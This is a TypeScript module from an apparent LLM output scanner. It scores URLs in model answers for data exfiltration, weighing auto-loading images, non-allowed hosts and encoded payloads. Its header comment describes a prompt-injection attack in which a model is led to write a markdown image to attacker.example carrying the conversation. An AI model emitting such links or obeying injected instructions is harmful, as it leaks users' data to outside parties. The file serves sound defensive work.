/**
 * Ways an answer can send data out. The classic one needs no click: an injected
 * instruction makes the model write `![x](https://attacker.example/?q=<the conversation>)`
 * and the chat client, rendering the image, delivers the data. Each URL of the answer
 * (see links.ts) is judged by three things: whether it loads by itself, whether its host
 * is one the application allows, and whether it carries data.
 *
 * | URL                          | host                 | carries data | score |
 * | ---------------------------- | -------------------- | ------------ | ----- |
 * | image, HTML src, CSS url()   | not in allowedHosts  | yes          | 0.98  |
 * | image, HTML src, CSS url()   | not in allowedHosts  | no           | 0.85  |
 * | image, HTML src, CSS url()   | (no allowedHosts)    | yes          | 0.95  |
 * | link                         | not in allowedHosts  | yes          | 0.8   |
 * | link                         | not in allowedHosts  | no           | 0.6   |
 * | link                         | (no allowedHosts)    | encoded blob | 0.7   |
 * |                              |                      | outside path |       |
 * | link                         | (no allowedHosts)    | other data   | 0.45  |
 * | javascript: / vbscript: URL  | any                  | any          | 0.9   |
 *
 * A host in allowedHosts is trusted: nothing sent to it is reported. Relative URLs go to
 * the application itself and are not judged; data: URLs send nothing.
 *
 * "Carries data": an encoded blob (a run of 24+ base64 characters mixing letter cases or
 * letters and digits, or 32+ hex digits) in the query, the path, the user name or a
 * subdomain label; a query value or path segment that the decoders of src/text read as
 * text; or a query value of 64+ characters, or a query value or path segment of six words
 * or more, once decoded. A link's path weighs less than its query when no hosts are
 * allowed: ordinary links carry ids in their paths (document ids, UUIDs, hashes).
 */
import { findPayloads } from "../../text/payloads.js";
import type { FoundUrl } from "./links.js";
import type { OutputEvidence } from "./types.js";

const BLOB_BASE64 = /[A-Za-z0-9+/_-]{24,}={0,2}/g;
const BLOB_HEX = /[0-9a-fA-F]{32,}/;
const MAX_EVIDENCE = 32;

export interface HostRules {
  exact: Set<string>;
  /** ".example.com" for "*.example.com": any subdomain. */
  suffixes: string[];
}

/** Host names as URL parsing writes them: lower case, IDNs in punycode. */
function canonicalHost(host: string): string | undefined {
  try {
    return new URL(`http://${host}/`).hostname;
  } catch {
    return undefined;
  }
}

export function hostRules(allowed: readonly string[]): HostRules {
  const rules: HostRules = { exact: new Set(), suffixes: [] };
  for (const entry of allowed) {
    const wildcard = entry.startsWith("*.");
    const host = canonicalHost(wildcard ? entry.slice(2) : entry);
    if (host === undefined) continue;
    if (wildcard) rules.suffixes.push(`.${host}`);
    else rules.exact.add(host);
  }
  return rules;
}

function allowed(host: string, rules: HostRules): boolean {
  return rules.exact.has(host) || rules.suffixes.some((s) => host.endsWith(s));
}

/** A run of base64 or hex that looks like encoded data rather than a word or a slug. */
function blobIn(part: string): string | undefined {
  for (const m of part.matchAll(BLOB_BASE64)) {
    const run = m[0];
    const mixedCase = /[a-z]/.test(run) && /[A-Z]/.test(run);
    const lettersAndDigits = /[A-Za-z]/.test(run) && /[0-9]/.test(run);
    // A slug ("how-to-train-your-dragon-part-two") mixes neither.
    if (mixedCase || lettersAndDigits) return run;
  }
  return BLOB_HEX.exec(part)?.[0];
}

function decodeComponent(part: string): string {
  try {
    return decodeURIComponent(part.replace(/\+/g, " "));
  } catch {
    return part;
  }
}

interface Data {
  strength: "blob" | "text";
  where: string;
  sample: string;
}

/** What data the URL carries to its host, if any (the fragment is never sent and is not judged). */
export function dataIn(url: URL): Data | undefined {
  const parts: { where: string; value: string }[] = [];
  for (const [name, value] of url.searchParams) parts.push({ where: `query parameter "${name}"`, value });
  if (url.search && url.searchParams.size === 0)
    parts.push({ where: "query", value: decodeComponent(url.search.slice(1)) });
  for (const segment of url.pathname.split("/"))
    if (segment) parts.push({ where: "path", value: decodeComponent(segment) });
  if (url.username) parts.push({ where: "user name", value: decodeComponent(url.username) });
  const labels = url.hostname.split(".");
  for (const label of labels.slice(0, -2)) parts.push({ where: "subdomain", value: label });

  for (const p of parts) {
    const blob = blobIn(p.value);
    if (blob) return { strength: "blob", where: p.where, sample: blob };
  }
  for (const p of parts) {
    if (p.value.length >= 16 && findPayloads(p.value).length > 0)
      return { strength: "blob", where: p.where, sample: p.value };
  }
  for (const p of parts) {
    const query = p.where.startsWith("query");
    if (!query && p.where !== "path") continue;
    const words = p.value.split(/\s+/).filter(Boolean).length;
    if ((query && p.value.length >= 64) || words >= 6)
      return { strength: "text", where: p.where, sample: p.value };
  }
  return undefined;
}

function parse(raw: string): URL | undefined {
  const text = raw.startsWith("//") ? `https:${raw}` : raw;
  if (!/^[a-z][a-z0-9+.-]*:/i.test(text)) return undefined; // relative: the application's own
  try {
    return new URL(text);
  } catch {
    return undefined;
  }
}

function clip(text: string, n = 80): string {
  return text.length > n ? `${text.slice(0, n - 1)}…` : text;
}

/** The finding for one URL, or undefined when it is harmless by the table above. */
function judge(
  u: FoundUrl,
  rules: HostRules | undefined,
): Omit<OutputEvidence, "offset" | "excerpt"> | undefined {
  const url = parse(u.url.trim());
  if (!url) return undefined;
  const finding = (id: string, score: number, description: string) => ({
    kind: "exfiltration" as const,
    id,
    category: "data_exfiltration" as const,
    score,
    description,
  });
  if (url.protocol === "javascript:" || url.protocol === "vbscript:")
    return finding("exfil.script_url", 0.9, `a ${url.protocol} URL runs code when clicked or rendered`);
  if (!["http:", "https:", "ftp:", "ws:", "wss:"].includes(url.protocol)) return undefined;
  const host = url.hostname;
  if (rules && allowed(host, rules)) return undefined;
  const data = dataIn(url);
  const carried = data
    ? ` carries ${data.strength === "blob" ? "encoded data" : "text"} in its ${data.where} ("${clip(data.sample, 40)}")`
    : "";
  const what =
    u.loads === "image"
      ? `an image (${u.syntax}) that loads from ${host} when the answer is rendered`
      : `a link (${u.syntax}) to ${host}`;
  const outside = rules ? ", a host not in allowedHosts" : "";
  if (u.loads === "image") {
    if (data) return finding("exfil.image_data", rules ? 0.98 : 0.95, `${what}${outside},${carried}`);
    if (rules) return finding("exfil.image_host", 0.85, `${what}${outside}`);
    return undefined;
  }
  if (rules) {
    if (data) return finding("exfil.link_data", 0.8, `${what}${outside},${carried}`);
    return finding("exfil.link_host", 0.6, `${what}${outside}`);
  }
  if (data)
    return finding(
      "exfil.link_data",
      data.strength === "blob" && data.where !== "path" ? 0.7 : 0.45,
      `${what}${carried}`,
    );
  return undefined;
}

export function exfiltrationEvidence(
  urls: readonly FoundUrl[],
  allowedHosts: readonly string[] | undefined,
): OutputEvidence[] {
  const rules = allowedHosts ? hostRules(allowedHosts) : undefined;
  const out: OutputEvidence[] = [];
  for (const u of urls) {
    const f = judge(u, rules);
    if (f) out.push({ ...f, offset: u.offset, excerpt: clip(u.url, 120) });
  }
  // The strongest first when there are too many to list.
  return out.length > MAX_EVIDENCE ? out.sort((a, b) => b.score - a.score).slice(0, MAX_EVIDENCE) : out;
}
